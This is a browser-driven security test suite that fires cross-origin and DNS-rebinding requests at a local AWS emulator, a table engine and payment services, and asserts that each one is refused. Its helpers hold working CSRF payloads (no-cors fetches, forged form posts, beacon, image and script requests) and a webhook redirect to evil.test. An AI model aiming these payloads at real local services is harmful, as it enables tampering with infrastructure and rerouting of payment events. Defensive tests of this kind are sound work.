/** The web page in the next tab: what it can do to a gateway that runs on this machine. Nothing, it should be. */
import assert from "node:assert/strict";
import { createServer, request } from "node:http";
import { after, before, test } from "node:test";
import { ARGUMENTS, launch, newPage } from "./support/browser.mjs";
import { API, CHECKOUT, createOrder, DEMO_SHOP, getOrder, KEY } from "./support/stack.mjs";

// Both names are the attacker's. His name server answers with this machine's address, as it does in a rebinding attack.
const NAMES = "MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1";
const EMULATOR = process.env.AWS_ENDPOINT_URL ?? "http://127.0.0.1:4600";
const TABLES = process.env.TABLES_URL ?? "http://127.0.0.1:4601";
const DASHBOARD = process.env.DASHBOARD_URL ?? "http://localhost:3000";
const MERCHANT = process.env.MERCHANT_URL ?? "http://localhost:4000";
const SIGNATURE =
  "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/dynamodb/aws4_request, " +
  `SignedHeaders=host;x-amz-date;x-amz-target, Signature=${"0".repeat(64)}`;
const TEMPLATE = JSON.stringify({
  Resources: { Q: { Type: "AWS::SQS::Queue", Properties: { QueueName: "made-by-a-web-page" } } },
});
const TABLE = JSON.stringify({
  TableName: "made-by-a-web-page",
  KeySchema: [{ AttributeName: "id", KeyType: "HASH" }],
  AttributeDefinitions: [{ AttributeName: "id", AttributeType: "S" }],
  BillingMode: "PAY_PER_REQUEST",
});

let browser, attacker, control, heard;
before(async () => {
  browser = await launch({ args: [...ARGUMENTS, `--host-resolver-rules=${NAMES}`] });
  attacker = await serve((asked, response) => response.end("<!doctype html><title>kittens</title>"));
  heard = [];
  // Takes whatever the page sends: it shows that the browser sent it, and so that the gateway refused it.
  control = await serve((asked, response) => {
    heard.push(`${asked.method} ${asked.url}`);
    response.end();
  });
});
after(async () => {
  await browser?.close();
  attacker?.close();
  control?.close();
});

async function serve(handler) {
  const server = createServer(handler);
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return server;
}

const portOf = (server) => server.address().port;

/** A signed call, as a developer's own tool makes it; not by fetch, which says `Sec-Fetch-Mode` in Node too. */
function tool(url, target, body) {
  const service = target ? "dynamodb" : "cloudformation";
  const headers = { Authorization: SIGNATURE.replace("dynamodb", service), "X-Amz-Date": "20260101T000000Z" };
  if (target)
    Object.assign(headers, { "X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.0" });
  else headers["Content-Type"] = "application/x-www-form-urlencoded";
  return new Promise((resolve, reject) => {
    const call = request(url, { method: "POST", headers }, async (response) => {
      let text = "";
      for await (const piece of response.setEncoding("utf8")) text += piece;
      resolve({ status: response.statusCode, text });
    });
    call.on("error", reject).end(body);
  });
}

async function evilPage(name = "evil.test", port = portOf(attacker), path = "/") {
  const page = await newPage(browser);
  const response = await page.goto(`http://${name}:${port}${path}`);
  return { page, response };
}

/** All that a page can send to another origin without asking, and what it may try to send by asking. */
async function attack(page, target) {
  await page.evaluate(
    async ({ target, template, table, signature }) => {
      const stack = new URLSearchParams({ Action: "CreateStack", StackName: "evil", TemplateBody: template });
      const tried = [
        fetch(`${target}/`, { method: "POST", mode: "no-cors", body: stack }),
        fetch(`${target}/_ministack/reset`, { method: "POST", mode: "no-cors" }),
        fetch(`${target}/`, { method: "POST", mode: "no-cors", body: table }), // text/plain
        fetch(`${target}/?${stack}`, {
          mode: "no-cors",
          referrerPolicy: "no-referrer",
          credentials: "include",
        }),
        fetch(`${target}/`, {
          method: "POST",
          headers: {
            Authorization: signature,
            "X-Amz-Date": "20260101T000000Z",
            "X-Amz-Target": "DynamoDB_20120810.CreateTable",
            "Content-Type": "application/x-amz-json-1.0",
          },
          body: table,
        }),
        new Promise((done) => {
          const image = new Image();
          image.referrerPolicy = "no-referrer";
          image.onload = image.onerror = done;
          image.src = `${target}/?${stack}&by=image`;
        }),
        new Promise((done) => {
          const script = document.createElement("script");
          script.onload = script.onerror = done;
          script.src = `${target}/_ministack/reset?by=script`;
          document.head.append(script);
        }),
        new Promise((done) => {
          const socket = new WebSocket(`${target.replace("http", "ws")}/_aws/execute-api/x/y?by=socket`);
          socket.onopen = () => done("open");
          socket.onerror = socket.onclose = () => done("refused");
        }),
        navigator.sendBeacon(`${target}/_ministack/reset?by=beacon`, "x"),
      ];
      await Promise.allSettled(tried);
    },
    { target, template: TEMPLATE, table: TABLE, signature: SIGNATURE },
  );
  for (const enctype of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
    await submit(page, `${target}/`, enctype);
  }
}

/** A form, posted into a frame of the page. */
const submit = (page, action, enctype) =>
  page.evaluate(
    ({ action, enctype, template }) =>
      new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.name = `f${Math.random()}`;
        const form = document.createElement("form");
        Object.assign(form, { method: "POST", action, enctype, target: frame.name });
        for (const [name, value] of [
          ["Action", "CreateStack"],
          ["StackName", "evil"],
          ["TemplateBody", template],
        ]) {
          form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
        }
        document.body.append(frame, form);
        frame.onload = () => done(); // of the empty frame, or of the answer
        form.submit();
        setTimeout(done, 1_000);
      }),
    { action, enctype, template: TEMPLATE },
  );

for (const [what, target] of [
  ["emulator", EMULATOR],
  ["table engine", TABLES],
]) {
  test(`a page of another origin makes the ${what} do nothing`, async () => {
    const order = await createOrder();
    const { page } = await evilPage();
    heard.length = 0;
    await attack(page, `http://127.0.0.1:${portOf(control)}`);
    const posts = heard.filter((line) => line.startsWith("POST /")).length;
    assert.ok(posts >= 6, `the browser sent only ${heard}`);
    assert.ok(
      heard.some((line) => line.includes("by=image")),
      String(heard),
    );
    for (const host of ["127.0.0.1", "localhost"])
      await attack(page, target.replace(/127\.0\.0\.1|localhost/, host));
    await page.context().close();

    assert.equal((await getOrder(order)).id, order); // nothing was reset
    const stacks = await tool(EMULATOR, "", "Action=ListStacks&Version=2010-05-15");
    assert.equal(stacks.status, 200);
    assert.doesNotMatch(stacks.text, /<StackName>evil</);
    const tables = await tool(TABLES, "DynamoDB_20120810.ListTables", "{}");
    assert.equal(tables.status, 200, tables.text);
    assert.match(tables.text, /-data-payments/);
    assert.doesNotMatch(tables.text, /made-by-a-web-page/);
  });

  test(`a page whose name was rebound to this machine cannot talk to the ${what}`, async () => {
    const { page, response } = await evilPage("rebound.test", new URL(target).port);
    assert.equal(response.status(), 403);
    const status = await page.evaluate(
      async ({ signature, table }) => {
        const headers = {
          Authorization: signature,
          "X-Amz-Date": "20260101T000000Z",
          "X-Amz-Target": "DynamoDB_20120810.CreateTable",
          "Content-Type": "application/x-amz-json-1.0",
        };
        return (await fetch("/", { method: "POST", headers, body: table })).status;
      },
      { signature: SIGNATURE, table: TABLE },
    );
    assert.equal(status, 403);
    await page.context().close();
  });
}

for (const [what, url] of Object.entries({ API, DASHBOARD, CHECKOUT, DEMO_SHOP, MERCHANT })) {
  test(`a page whose name was rebound to this machine gets 421 of ${what}`, async () => {
    const { page, response } = await evilPage("rebound.test", new URL(url).port, "/health");
    assert.equal(response.status(), 421);
    const error = (await response.json()).error;
    assert.equal(error.code, "BAD_REQUEST_ERROR");
    const statuses = await page.evaluate(async (key) => {
      const headers = {
        "X-Api-Key": key,
        "X-Api-Secret": "secret_test_xyz789",
        "Content-Type": "application/json",
      };
      const body = JSON.stringify({ webhook_url: "http://evil.test/" });
      const answers = [
        await fetch("/api/v1/webhooks/config", { method: "PUT", headers, body }),
        await fetch("/api/v1/webhooks/config", { headers }),
        await fetch("/events"),
        await fetch("/"),
      ];
      return answers.map((answer) => answer.status);
    }, KEY);
    assert.deepEqual(statuses, [421, 421, 421, 421]);
    await page.context().close();
  });
}
